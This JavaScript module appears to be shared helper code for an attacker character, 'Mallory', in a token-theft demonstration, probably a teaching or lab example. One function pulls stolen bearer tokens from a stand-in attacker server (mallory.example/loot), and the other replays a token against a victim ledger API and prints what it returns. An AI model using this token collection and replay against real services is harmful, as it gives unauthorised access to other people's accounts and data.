// What Mallory's programs share.
import { send } from '../http.js';

const api = 'https://api.tally.example:8443';

/** The next token that somebody brings to her server; waits until there is one. */
export async function nextLoot() {
  return (await send('https://mallory.example:8443/loot')).text;
}

//#region replay
/**
 * Calls the API from this machine and prints the answer.
 * @param {string} [token]
 */
export async function readLedger(token) {
  /** @type {Record<string, string>} */
  const headers = {};
  if (token) headers.authorization = `Bearer ${token}`;
  const answer = await send(`${api}/ledger`, { headers });
  console.log(`GET /ledger: ${answer.status}`);
  if (answer.status !== 200) return;
  for (const { text, amount } of JSON.parse(answer.text).entries) {
    console.log(`${text}: ${amount}`);
  }
}
//#endregion
